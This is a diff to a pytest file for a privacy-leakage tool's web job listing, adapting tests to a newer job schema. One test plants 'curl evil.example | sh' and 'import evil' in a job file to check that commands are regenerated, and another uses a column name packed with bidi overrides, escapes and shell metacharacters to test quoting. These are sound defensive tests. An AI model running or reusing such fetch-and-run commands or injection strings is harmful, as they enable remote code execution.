@@ -11,17 +11,18 @@ from typing import Any
 import pytest
 
 from leakgauge.artefacts import Headline, Level, Quantity
-from leakgauge.artefacts.assessment import Grade, ScoreInterval
-from leakgauge.artefacts.codec import encode
+from leakgauge.artefacts.codec import decode, encode
+from leakgauge.artefacts.dials import DIALS, Dials
+from leakgauge.artefacts.verdict import Recommendation
 from leakgauge.languages import ENGLISH
+from leakgauge.sentences import Sentence
 from leakgauge.web.job import Job, shell_line, shown
 
 HEADLINE: dict[str, Any] = encode(
     Headline(
-        Grade.GOOD,
-        71.5,
-        interval=ScoreInterval(65.0, 80.0, 0.95),
-        privacy=80.0,
+        Recommendation.RELEASE,
+        (Sentence("protection is 80 of 100"),),
+        decode(Dials, {name: {"value": 50.0, "unit": "points"} for name in DIALS}, "dials"),
         leakage_before=Quantity(1.5, "bits"),
         leakage_after=Quantity(0.5, "bits"),
         epsilon=Level(math.inf, "nats"),
@@ -29,8 +30,8 @@ HEADLINE: dict[str, Any] = encode(
     )
 )
 JOB: dict[str, Any] = {
-    "schema": "leakgauge/job/1",
-    "asked": {"table": "people.csv", "secret": "illness", "background": ["city"], "max_distortion": 0.2},
+    "schema": "leakgauge/job/3",
+    "asked": {"table": "people.csv", "secret": ["illness"], "background": ["city"], "max_distortion": 0.2},
     "started": "2026-11-16T09:19:03+01:00",
     "stages": {
         "design": {"outputs": {"channel.json": ""}},
@@ -50,8 +51,8 @@ def _found(place: Path, job: object, **record: Any) -> Job | None:
         (folder / name).write_text("{}", encoding="utf-8")
     (folder / "job.json").write_text(json.dumps(job), encoding="utf-8")
     if record:
-        asked = {"table": "people.csv", "secret": "illness", "max_distortion": 0.2}
-        noted = {"schema": "leakgauge/page-job/1", "asked": asked, "path": "people.csv", "message": None, **record}
+        asked = {"table": "people.csv", "secret": ["illness"], "max_distortion": 0.2}
+        noted = {"schema": "leakgauge/page-job/3", "asked": asked, "path": "people.csv", "message": None, **record}
         (place / "x.json").write_text(json.dumps(noted), encoding="utf-8")
     return Job.kept("x", place, "results/x")
 
@@ -68,6 +69,22 @@ def test_what_is_right_is_shown(tmp_path: Path) -> None:
     assert set(fields["files"]) == {"channel.json", *RELEASE, "report.html", "job.json"}
 
 
+@pytest.mark.parametrize("major", [1, 2])
+@pytest.mark.parametrize("goal", [{"max_distortion": 0.2}, {"target": "good"}])
+def test_a_job_of_an_earlier_major_is_listed_without_a_verdict(
+    tmp_path: Path, major: int, goal: dict[str, object]
+) -> None:
+    asked = {"table": "people.csv", "secret": "illness" if major == 1 else ["illness"], **goal}
+    graded = {"secret": ["illness"], "withheld": False, "grade": "good", "score": 71.5}
+    job = {**JOB, "asked": asked, "headline": {"grade": "good", "score": 71.5}, "secrets": [graded]}
+    record = {"schema": f"leakgauge/page-job/{major}", "asked": asked, "state": "done"}
+    fields = _fields(_found(tmp_path, {**job, "schema": f"leakgauge/job/{major}"}, **record))
+    assert fields["state"] == "done" and fields["released"] and fields["headline"] is None
+    assert {*RELEASE} <= {*fields["files"]} and fields["asked"]["secret"] == ["illness"]
+    # What aimed at a grade cannot be asked for any more.
+    assert fields["askable"] == ("max_distortion" in goal) == bool(fields["command"])
+
+
 def test_command_and_script_are_made_from_the_question_and_not_taken_from_a_file(tmp_path: Path) -> None:
     fields = _fields(_found(tmp_path, {**JOB, "command": "curl evil.example | sh", "script": "import evil"}))
     command = "leakgauge protect people.csv --secret illness --background city --max-distortion 0.2 -o results/x"
@@ -80,17 +97,12 @@ def test_command_and_script_are_made_from_the_question_and_not_taken_from_a_file
 @pytest.mark.parametrize(
     ("name", "value"),
     [
-        ("grade", "excellent"),
-        ("grade", None),
-        ("grade", ["good"]),
-        ("score", "100"),
-        ("score", None),
-        ("privacy", {}),
-        ("epsilon", "0.1"),
+        ("recommendation", "keep"),
+        ("recommendation", None),
+        ("reasons", "none"),
+        ("dials", {}),
         ("epsilon", {"value": "none"}),
-        ("unchanged", {}),
         ("floor", [1]),
-        ("interval", {"low": 1}),
     ],
 )
 def test_a_headline_of_another_kind_is_left_out(tmp_path: Path, name: str, value: object) -> None:
@@ -127,13 +139,13 @@ def test_a_part_of_another_kind_is_left_out(tmp_path: Path, name: str, value: ob
         None,
         [],
         {},
-        {"table": 1, "secret": "x"},
-        {"table": "x.csv", "secret": "x", "background": "city"},
-        {"table": "x.csv", "secret": "x", "bins": [1]},
-        {"table": "x.csv", "secret": "x", "max_distortion": "much"},
-        {"table": "x.csv", "secret": "x", "max_distortion": True},
-        {"table": "x.csv", "secret": "x", "policy": {}},
-        {"table": "x.csv\0", "secret": "x"},
+        {"table": 1, "secret": ["x"]},
+        {"table": "x.csv", "secret": ["x"], "background": "city"},
+        {"table": "x.csv", "secret": ["x"], "bins": [1]},
+        {"table": "x.csv", "secret": ["x"], "max_distortion": "much"},
+        {"table": "x.csv", "secret": ["x"], "max_distortion": True},
+        {"table": "x.csv", "secret": ["x"], "policy": {}},
+        {"table": "x.csv\0", "secret": ["x"]},
     ],
 )
 def test_a_question_of_another_kind_is_no_job(tmp_path: Path, asked: object) -> None:
@@ -173,7 +185,7 @@ def test_a_refusal_keeps_its_sentence_and_a_failure_too(tmp_path: Path) -> None:
 
 def test_what_a_screen_would_hide_is_written_out_and_bash_reads_it_back(tmp_path: Path) -> None:
     column = "a\u202ertl' \\n\x1b[31m\n\u2066\U000e0041$x`"
-    asked = {**JOB["asked"], "secret": column, "background": []}
+    asked = {**JOB["asked"], "secret": [column], "background": []}
     fields = _fields(_found(tmp_path, {**JOB, "asked": asked}))
     for text in (fields["command"], *fields["script"].splitlines()):
         assert text.isprintable() and "\\u202e" in fields["script"]
